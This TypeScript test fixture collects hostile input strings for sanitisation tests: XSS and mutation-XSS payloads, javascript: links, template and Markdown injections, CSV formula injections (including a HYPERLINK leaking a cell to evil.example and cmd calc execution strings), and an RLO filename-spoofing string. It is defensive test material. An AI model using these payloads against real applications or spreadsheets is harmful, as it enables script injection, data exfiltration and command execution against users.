// Hostile strings, shared by the report unit test (vitest) and the end-to-end spec (Playwright): classic XSS and
// mXSS vectors, template and Markdown injections, spreadsheet formulas, and text that is hard on layout and
// encodings. Every vector that could run script would, if it ran, both set `__pwned` on the top window and call
// `alert()` (a 'dialog' event in Playwright), so a test can see it from either side.
//
// All are one line of plain ASCII with no leading or trailing white space (fields and pasted paragraphs are
// trimmed), so that each is also a word a test can search the app's text for. Two hold a comma, which the tag field
// splits on: TAG_VECTORS leaves them out.

/** What a vector runs: both side effects. In an iframe, `top` is the app's (or the report's) own window. */
export const PWN = 'top.__pwned=1;top.alert(1)'

export type VectorKind = 'html' | 'attribute' | 'url' | 'mxss' | 'breakout' | 'template' | 'markdown' | 'csv' | 'xml' | 'encoded'

export interface Vector {
  /** Short and unique, for test names and messages. */
  name: string
  kind: VectorKind
  text: string
}

const v = (kind: VectorKind, name: string, text: string): Vector => ({ kind, name, text })

export const VECTORS: readonly Vector[] = [
  // Plain HTML that runs script the moment it is parsed as markup.
  v('html', 'script', `<script>${PWN}</script>`),
  v('html', 'script-mixed-case', `<ScRiPt>${PWN}</sCrIpT>`),
  v('html', 'script-split', `<scr<script>ipt>${PWN}</scr</script>ipt>`),
  v('html', 'img-onerror', `<img src=x onerror="${PWN}">`),
  v('html', 'img-onerror-unquoted', `<img src=x onerror=${PWN}>`),
  v('html', 'svg-onload', `<svg onload="${PWN}">`),
  v('html', 'svg-script', `<svg><script>${PWN}</script></svg>`),
  v('html', 'body-onload', `<body onload="${PWN}">`),
  v('html', 'details-ontoggle', `<details open ontoggle="${PWN}"><summary>x</summary></details>`),
  v('html', 'input-autofocus', `<input autofocus onfocus="${PWN}">`),
  v('html', 'video-source-onerror', `<video><source onerror="${PWN}"></video>`),
  v('html', 'marquee-onstart', `<marquee onstart="${PWN}">x</marquee>`),
  v('html', 'iframe-srcdoc', `<iframe srcdoc="<script>${PWN}</script>"></iframe>`),
  v('html', 'iframe-javascript', `<iframe src="javascript:${PWN}"></iframe>`),
  v('html', 'object-data', `<object data="javascript:${PWN}"></object>`),
  v('html', 'embed-src', `<embed src="javascript:${PWN}">`),
  v('html', 'meta-refresh', `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">`),
  v('html', 'style-expression', `<div style="width:expression(${PWN})">x</div>`),
  v('html', 'style-import', `<style>@import 'https://evil.example/x.css';</style>`),
  v('html', 'form-formaction', `<form><button formaction="javascript:${PWN}">x</button></form>`),
  // Breaking out of an attribute or of the element the text was meant to stay inside.
  v('attribute', 'quote-gt-script', `"><script>${PWN}</script>`),
  v('attribute', 'apos-gt-img', `'><img src=x onerror=${PWN}>`),
  v('attribute', 'quote-onmouseover', `" onmouseover="${PWN}" x="`),
  v('attribute', 'apos-autofocus', `' autofocus onfocus='${PWN}' x='`),
  v('breakout', 'textarea-close', `</textarea><script>${PWN}</script>`),
  v('breakout', 'title-close', `</title><img src=x onerror=${PWN}>`),
  v('breakout', 'style-close', `</style><img src=x onerror=${PWN}>`),
  v('breakout', 'script-close', `</script><script>${PWN}</script>`),
  v('breakout', 'comment-open', `<!--<img src=x onerror=${PWN}>`),
  v('breakout', 'comment-close', `--><img src=x onerror=${PWN}>`),
  // Links that run script where a URL is expected.
  v('url', 'javascript-link', `<a href="javascript:${PWN}">click</a>`),
  v('url', 'javascript-tab-entity', `<a href="jav&#x09;ascript:${PWN}">click</a>`),
  v('url', 'data-html-link', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`),
  v('url', 'svg-xlink', `<svg><a xlink:href="javascript:${PWN}"><text y="20">click</text></a></svg>`),
  v('url', 'bare-javascript', `javascript:${PWN}`),
  // Mutation XSS: markup that a sanitiser passes but that re-parses into script (namespace confusion and friends).
  v('mxss', 'noscript-title', `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`),
  v('mxss', 'math-mglyph-style', `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}>`),
  v('mxss', 'form-math-mglyph', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`),
  v('mxss', 'svg-p-style', `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`),
  v('mxss', 'template-script', `<template><script>${PWN}</script></template><img src=x onerror=${PWN}>`),
  v('mxss', 'select-noembed', `<select><noembed></select><img src=x onerror=${PWN}></noembed>`),
  v('mxss', 'math-href', `<math href="javascript:${PWN}">click</math>`),
  // Template engines: Angular-style expressions, Svelte's {@html}, Handlebars' triple stash, template literals.
  v('template', 'angular-constructor', `{{constructor.constructor('${PWN}')()}}`),
  v('template', 'svelte-html', `{@html '<img src=x onerror=${PWN}>'}`),
  v('template', 'handlebars-triple', `{{{'<img src=x onerror=${PWN}>'}}}`),
  v('template', 'template-literal', `\${${PWN}}`),
  // Markdown: links and images whose destination is script, raw HTML, reference definitions, autolinks.
  v('markdown', 'md-link', `[x](javascript:${PWN})`),
  v('markdown', 'md-image', `![x](javascript:${PWN})`),
  v('markdown', 'md-angle-link', `[x](<javascript:${PWN}>)`),
  v('markdown', 'md-autolink', `<javascript:${PWN}>`),
  v('markdown', 'md-reference', `[x]: javascript:${PWN}`),
  // Spreadsheet formula injection (runs when the CSV is opened in Excel, LibreOffice or Sheets).
  v('csv', 'csv-hyperlink', `=HYPERLINK("https://evil.example/?leak="&A1,"click")`),
  v('csv', 'csv-plus-cmd', `+cmd|' /C calc'!A0`),
  v('csv', 'csv-minus', `-2+3+cmd|' /C calc'!A0`),
  v('csv', 'csv-at', `@SUM(1+1)*cmd|' /C calc'!A0`),
  // XML: CDATA and processing instructions, which HTML treats as bogus comments, and a namespaced script.
  v('xml', 'cdata', `<![CDATA[<script>${PWN}</script>]]>`),
  v('xml', 'xhtml-script', `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${PWN}</x:script>`),
  v('xml', 'processing-instruction', `<?xml-stylesheet href="javascript:${PWN}"?>`),
  // Already escaped: must come out as these characters, not be decoded into markup.
  v('encoded', 'entity-script', `&lt;script&gt;${PWN}&lt;/script&gt;`),
  v('encoded', 'numeric-entity-img', `&#60;img src=x onerror=${PWN}&#62;`)
]

/** Vectors short enough for a tag (MAX_TAG_CHARS is 100) and without a comma (the tag field splits on commas). */
export const TAG_VECTORS = VECTORS.filter((x) => x.text.length <= 100 && !x.text.includes(','))

/** A single word of 10,000 characters: no break opportunity anywhere in it. */
export const LONG_WORD = `W${'x'.repeat(9_998)}W`

/**
 * Characters that are hard on text handling rather than on markup. Lone surrogates are built from their code
 * units so that no editor or formatter can repair them.
 */
export const LONE_HIGH = String.fromCharCode(0xd800)
export const LONE_LOW = String.fromCharCode(0xdfff)
export const RLO = '\u202e'
export const ODD = {
  /** NUL and the other C0 controls except tab and line breaks (those become white space), DEL and a C1 control. */
  controls: `nul[\u0000] bel[\u0007] bs[\u0008] vt[\u000b] ff[\u000c] esc[\u001b] del[\u007f] nel[\u0085] csi[\u009b]`,
  /** Lone surrogates, each where a pair would be expected. */
  surrogates: `lone high[${LONE_HIGH}] lone low[${LONE_LOW}] reversed pair[${LONE_LOW}${LONE_HIGH}]`,
  /** A right-to-left override that makes "gpj.exe" read "exe.jpg", then isolates and marks left open. */
  bidi: `invoice${RLO}gpj.exe and \u2066isolate\u2069 and open ${RLO}override \u200f\u200b\ufeff end`
}

/** All of it as lines: each vector, then the odd strings. */
export const HOSTILE_LINES: readonly string[] = [...VECTORS.map((x) => x.text), ODD.controls, ODD.surrogates, ODD.bidi]

/**
 * What a string is once written to a UTF-8 file: lone surrogates cannot be encoded and become U+FFFD. (The JSON
 * formats escape them as \ud800 and so keep them.)
 */
export const asUtf8 = (text: string) => text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd')

/**
 * Element names the vectors above would create if parsed. A report uses a few itself (its <head>, a <table>, links):
 * checks count those at the report's own number and every other one at zero.
 */
export const VECTOR_ELEMENTS = [
  'script', 'img', 'svg', 'iframe', 'object', 'embed', 'video', 'audio', 'source', 'details', 'input', 'marquee',
  'meta', 'style', 'link', 'base', 'form', 'button', 'math', 'mtext', 'mglyph', 'noscript', 'template', 'select',
  'noembed', 'table', 'textarea', 'title', 'x:script', 'body', 'frame', 'frameset', 'a'
] as const
